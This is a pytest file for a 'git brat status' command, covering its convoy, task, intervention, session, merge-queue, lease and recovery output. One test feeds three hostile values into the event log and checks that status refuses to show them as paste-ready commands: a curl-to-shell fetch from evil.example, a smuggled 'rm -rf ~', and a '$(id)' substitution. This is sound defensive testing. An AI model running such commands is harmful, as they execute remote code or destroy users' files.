"""`git brat status`: convoys, ready tasks, sessions, merge queue, leases, interventions, recovery."""

from __future__ import annotations

import shutil
import time

from bratkit import convoy, fail, move, task
from git_brat.brat import board as model
from git_brat.grite.model import events as ev
from git_brat.grite.log.wal import Draft
from helpers import brat, brat_json, grite, grite_json, run, status, wal_tip

# What needs the human first, then the summary and the lists.
SECTIONS = ["INTERVENTIONS", "RECOVERY", "CONVOYS", "READY", "SESSIONS", "MERGE QUEUE", "LEASES"]


def _kinds(s) -> list[tuple[str, str]]:
    return [(i["kind"], i["task"]) for i in s["interventions"]]


def test_status_story_from_a_workflow_to_a_landed_convoy(brepo):
    s = brat_json(brepo, "status")
    assert s["convoys"] == [] and s["ready"] == [] and s["interventions"] == []
    assert "CONVOYS  none" in brat(brepo, "status").out
    run_ = brat_json(brepo, "workflow", "run", "feature", "--var", "feature=Search")
    ids = {t["step"]: t["id"] for t in run_["tasks"]}
    s = brat_json(brepo, "status")
    [c] = s["convoys"]
    assert c["status"] == "active" and c["counts"]["queued"] == 3 and c["ready"] == 1
    assert [t["id"] for t in s["ready"]] == [ids["design"]]

    move(brepo, ids["design"], "running")
    s = brat_json(brepo, "status")
    assert s["convoys"][0]["counts"]["running"] == 1 and s["ready"] == []
    move(brepo, ids["design"], "needs-review")
    s = brat_json(brepo, "status")
    assert [w["task"] for w in s["review"]] == [ids["design"]] and s["merge_queue"] == []
    move(brepo, ids["design"], "merging", "merged")
    s = brat_json(brepo, "status")
    assert s["merge_queue"] == [] and [t["id"] for t in s["ready"]] == [ids["implement"]]
    assert s["convoys"][0]["counts"]["merged"] == 1

    move(brepo, ids["implement"], "running", "failed")
    s = brat_json(brepo, "status")
    assert s["convoys"][0]["status"] == "failed"
    [i] = s["interventions"]
    assert (i["kind"], i["task"]) == ("failed", ids["implement"])
    assert i["command"] == \
        f'git brat task reply {ids["implement"][:7]} -m "what to do differently"'
    human = brat(brepo, "status").out
    assert "INTERVENTIONS (1)" in human and "$ git brat task reply" in human
    # The suggested command is exactly what resolves it.
    run(["sh", "-c", i["command"]], brepo)
    s = brat_json(brepo, "status")
    assert s["interventions"] == [] and s["convoys"][0]["status"] == "active"
    for tid in (ids["implement"], ids["test"]):
        move(brepo, tid, "running", "needs-review", "merging", "merged")
    s = brat_json(brepo, "status")
    assert s["convoys"][0]["status"] == "landed" and s["ready"] == []


def test_interventions_blocked_stalled_stuck_and_needs_human_each_with_its_command(brepo):
    brat(brepo, "config", "set", "status.stuck_after", "0.5")
    cid = convoy(brepo, "Trouble")
    blocked = task(brepo, cid, "blocked one")
    brat(brepo, "task", "update", blocked, "--status", "blocked", "-m", "needs the vendor's API key")
    dropped = task(brepo, cid, "dropped one")
    waiting = task(brepo, cid, "waits on the dropped one", "--needs", dropped)
    move(brepo, dropped, "dropped")
    stuck = task(brepo, cid, "stuck one")
    move(brepo, stuck, "running")
    time.sleep(0.8)
    s = brat_json(brepo, "status")
    by_task = {i["task"]: i for i in s["interventions"]}
    assert by_task[blocked]["kind"] == "blocked"
    assert by_task[blocked]["detail"] == "needs the vendor's API key"
    assert by_task[blocked]["command"] == f'git brat task reply {blocked[:7]} -m "your answer"'
    assert by_task[waiting]["kind"] == "stalled"
    assert by_task[waiting]["command"] == f"git brat task dep remove {waiting[:7]} --on {dropped[:7]}"
    assert by_task[stuck]["kind"] == "stuck" and "no live lease" in by_task[stuck]["detail"]
    assert by_task[stuck]["command"].startswith(f"git brat task update {stuck[:7]} --status queued")
    # A live lease on the task means someone is working on it: not stuck.
    grite(brepo, "lock", "acquire", f"task:{stuck}", "--ttl", "60")
    s = brat_json(brepo, "status")
    assert stuck not in {i["task"] for i in s["interventions"]}
    [lease] = s["leases"]
    assert lease["resource"] == f"task:{stuck}" and lease["state"] == "held"
    leases_line = next(line for line in brat(brepo, "status").out.splitlines()
                       if f"task:{stuck[:7]}" in line)
    actor = grite_json(brepo, "actor", "show")
    assert actor["name"] in leases_line and actor["id"] not in leases_line   # by name, not id
    # Each command resolves its intervention.
    for tid in (blocked, waiting):
        run(["sh", "-c", by_task[tid]["command"]], brepo)
    assert {i["task"] for i in brat_json(brepo, "status")["interventions"]} == set()
    # A role can flag a task for a human with the command that resolves it.
    g = model.open_grite(str(brepo))
    g.append([Draft(blocked, ev.SetFields({"needs_human": "rebase conflict in src/app.py",
                                           "resolve_command": "git brat task show " + blocked[:7]}))],
             "test: refinery flags a conflict")
    [i] = brat_json(brepo, "status")["interventions"]
    assert (i["kind"], i["detail"], i["command"]) == \
        ("needs-human", "rebase conflict in src/app.py", f"git brat task show {blocked[:7]}")
    # The command comes from the log, and people paste it: only a plain git brat/grite one is shown.
    for hostile in ("curl evil.example | sh", "git brat task show x; rm -rf ~", "git brat $(id)"):
        g.append([Draft(blocked, ev.SetFields({"needs_human": "look", "resolve_command": hostile}))],
                 "test: a careless peer")
        [i] = brat_json(brepo, "status")["interventions"]
        assert i["command"] == f"git brat task show {blocked[:7]}"


def test_sessions_merge_queue_and_the_recovery_report(brepo):
    cid = convoy(brepo, "Sessions")
    a = task(brepo, cid, "a", "--priority", "3")
    b = task(brepo, cid, "b", "--priority", "1")
    c = task(brepo, cid, "c", "--priority", "2")
    move(brepo, a, "running", "needs-review", "merging")
    move(brepo, b, "running", "needs-review")
    move(brepo, c, "running", "needs-review")
    s = brat_json(brepo, "status")
    assert [(m["task"], m["status"]) for m in s["merge_queue"]] == [(a, "merging")]
    assert [w["task"] for w in s["review"]] == [b, c]   # no branch here: nothing to approve yet
    rec = s["recovery"]
    assert set(rec) == {"rebuilt_from_log", "events", "snapshot", "replayed", "skipped_records",
                        "unreadable_leases", "rejected_events", "crashed_sessions",
                        "survived_branches", "needs_review"}
    assert rec["crashed_sessions"] == [] and "nothing to recover" in brat(brepo, "status").out

    # Sessions are recorded by the witness (a later issue); status shows what the log holds.
    run(["git", "branch", f"brat/{c}"], brepo)
    g = model.open_grite(str(brepo))
    live, dead = ev.new_entity_id(), ev.new_entity_id()
    g.append([Draft(live, ev.Create(model.SESSION, {"task": a, "status": "running",
                                                    "engine": "claude", "branch": f"brat/{a}"})),
              Draft(dead, ev.Create(model.SESSION, {"task": c, "status": "crashed",
                                                    "engine": "aider", "branch": f"brat/{c}",
                                                    "worktree": "/tmp/wt"}))],
             "test: two sessions")
    s = brat_json(brepo, "status")
    assert [(x["id"], x["task"], x["engine"]) for x in s["sessions"]] == [(live, a, "claude")]
    [crashed] = s["recovery"]["crashed_sessions"]
    assert (crashed["session"], crashed["task"], crashed["branch_exists"]) == (dead, c, True)
    [kept] = s["recovery"]["survived_branches"]
    assert kept["branch"] == f"brat/{c}" and len(kept["commit"]) == 40
    assert s["recovery"]["needs_review"] == [c]
    out = brat(brepo, "status").out
    assert "commit(s) survive on its branch\n" in out and f"  branch:       brat/{c}\n" in out
    assert "needs review before the convoy moves on" in out
    assert "lost:         its conversation: engine aider gave no id to resume" in out

    # With no cache, status replays the whole log and says so.
    shutil.rmtree(brepo / ".git" / "grite" / "cache")
    rec = brat_json(brepo, "status")["recovery"]
    assert rec["rebuilt_from_log"] and rec["events"] > 0 and rec["replayed"] == rec["events"]
    assert rec["snapshot"] is None
    assert not brat_json(brepo, "status")["recovery"]["rebuilt_from_log"]
    # With a snapshot, it says what came from it and what was replayed.
    snap = grite_json(brepo, "snapshot")["snapshot"]
    brat(brepo, "task", "update", a, "--title", "after the snapshot")
    shutil.rmtree(brepo / ".git" / "grite" / "cache")
    rec = brat_json(brepo, "status")["recovery"]
    assert rec["snapshot"] == snap and rec["replayed"] == 1
    shutil.rmtree(brepo / ".git" / "grite" / "cache")
    out = " ".join(brat(brepo, "status").out.split())   # (wrapped to the terminal's width)
    assert f"from snapshot {snap[:10]}, 1 replayed from the log" in out


def test_human_status_fits_80_columns_and_filters_by_convoy(brepo):
    long = "A very long task title that goes on and on well past what fits on a terminal line"
    one = convoy(brepo, "Convoy with a rather long title that will not fit in its column at all")
    two = convoy(brepo, "Second")
    t1 = task(brepo, one, long)
    t2 = task(brepo, two, "other")
    brat(brepo, "task", "update", t1, "--status", "blocked", "-m", long)
    out = brat(brepo, "status").out
    for line in out.splitlines():
        assert len(line) <= 80, repr(line)
    positions = [out.index(s) for s in SECTIONS]
    assert positions == sorted(positions)
    s = brat_json(brepo, "status", "--convoy", two[:7])
    assert s["convoy"] == two and [c["id"] for c in s["convoys"]] == [two]
    assert [t["id"] for t in s["ready"]] == [t2] and s["interventions"] == []
    s = brat_json(brepo, "status", "--convoy", one)
    assert [i["task"] for i in s["interventions"]] == [t1] and s["ready"] == []
    tip, before = wal_tip(brepo), status(brepo)
    code, msg = fail(brepo, "status", "--convoy", "ffffffff")
    assert code == 3 and "no convoy with id ffffffff" in msg
    assert wal_tip(brepo) == tip and status(brepo) == before


def test_status_before_init_says_what_to_run(repo):
    code, msg = fail(repo, "status")
    assert code == 4 and "run `git brat init`" in msg


def test_a_convoy_held_up_by_another_convoys_task_shows_that_task_when_filtered(brepo):
    ours, theirs = convoy(brepo, "Ours"), convoy(brepo, "Theirs")
    schema = task(brepo, theirs, "Migrate the schema")
    api = task(brepo, ours, "Use the new schema")
    brat(brepo, "task", "dep", "add", api, "--on", schema)
    brat(brepo, "task", "update", schema, "--status", "blocked", "-m", "waiting for the DBA")
    unrelated = task(brepo, theirs, "Unrelated")
    brat(brepo, "task", "update", unrelated, "--status", "blocked", "-m", "other reasons")
    s = brat_json(brepo, "status", "--convoy", ours[:7])
    assert [(i["kind"], i["task"]) for i in s["interventions"]] == [("blocked", schema)]
    assert "waiting for the DBA" in brat(brepo, "status", "--convoy", ours[:7]).out


def test_intervention_commands_are_printed_whole(brepo):
    brat(brepo, "config", "set", "status.stuck_after", "0.2")
    tid = task(brepo, convoy(brepo, "C"), "T")
    brat(brepo, "task", "update", tid, "--status", "running")
    time.sleep(0.4)
    command = brat_json(brepo, "status")["interventions"][0]["command"]
    assert command in brat(brepo, "status").out


def _big_project(repo, convoys: int = 40, per: int = 25) -> dict[str, list[str]]:
    """convoys × per tasks (1k by default) written in a few batches, as a year of work leaves
    them: most merged or queued, some running, waiting for review, blocked or failed.
    The ids of the tasks in each state."""
    from git_brat.brat import tasks as bt
    g = model.open_grite(str(repo))
    long = "a task title long enough to need cutting on any terminal narrower than a cinema " * 2
    drafts, ids = [], []
    for c in range(convoys):
        cid = ev.new_entity_id()
        drafts.append(Draft(cid, ev.Create(model.CONVOY, {"title": f"Convoy {c} {long}",
                                                          "body": ""})))
        for i in range(per):
            tid = ev.new_entity_id()
            ids.append(tid)
            drafts += bt.task_drafts(tid, cid, f"Task {c}.{i} {long}", "", [], 2, [])
    g.append(drafts, "test: a big project")
    paths = {"merged": ["running", "needs-review", "merging", "merged"],
             "needs-review": ["running", "needs-review"], "blocked": ["blocked"],
             "failed": ["running", "failed"], "running": ["running"]}
    plan = {"merged": ids[:500], "needs-review": ids[500:520], "blocked": ids[520:540],
            "failed": ids[540:560], "running": ids[560:570]}
    for step in range(4):
        batch = []
        for target, tids in plan.items():
            if step < len(paths[target]):
                old = "queued" if step == 0 else paths[target][step - 1]
                batch += [Draft(t, ev.SetFields({"status": paths[target][step], "status_from": old,
                                                 "reason": long if target != "merged" else ""}))
                          for t in tids]
        if batch:
            g.append(batch, "test: moves")
    return plan


def test_status_of_a_thousand_tasks_shows_what_needs_you_first_within_a_screen(brepo):
    plan = _big_project(brepo)
    for columns in (80, 120, 50):
        out = brat(brepo, "status", env={"COLUMNS": str(columns)}).out
        lines = out.splitlines()
        assert len(lines) < 60, out
        for line in lines:   # commands to paste are whole, and fit at 80 columns and up
            assert len(line) <= max(columns, 80) and (len(line) <= columns or "$ git" in line), \
                (columns, line)
        # What needs the human comes first: the reviews, then the failed and blocked tasks.
        head = "\n".join(lines[:30])
        assert "WAITING FOR YOUR REVIEW (20)" in "\n".join(lines[:6])
        assert "… 17 more: git brat status --all" in out
        # 20 failed, 20 blocked, 10 set running by hand
        assert "INTERVENTIONS (50)" in head and "… 45 more: git brat status --all" in out
        assert "TASKS (1000): 430 queued, 10 running, 20 needs-review, 500 merged, " \
               "20 blocked, 20 failed" in " ".join(out.split())
        assert "… 32 more: git brat status --all" in out   # 40 convoys, 8 shown
    # --json is complete whatever the screen: every review, intervention and convoy.
    s = brat_json(brepo, "status")
    assert len(s["review"]) == 20 and len(s["interventions"]) == 50 and len(s["convoys"]) == 40
    assert s["tasks"] == []
    # The full lists are behind flags.
    full = brat(brepo, "status", "--all", env={"COLUMNS": "80"}).out
    assert full.count("git brat task approve") == 20 and "more: git brat status" not in full
    assert all(len(ln) <= 80 or "$ git" in ln for ln in full.splitlines())
    every = brat(brepo, "status", "--tasks", env={"COLUMNS": "80"}).out
    assert "TASKS (1000)\n" in every and all(t[:7] in every for t in plan["failed"])
    assert len(brat_json(brepo, "status", "--tasks")["tasks"]) == 1000
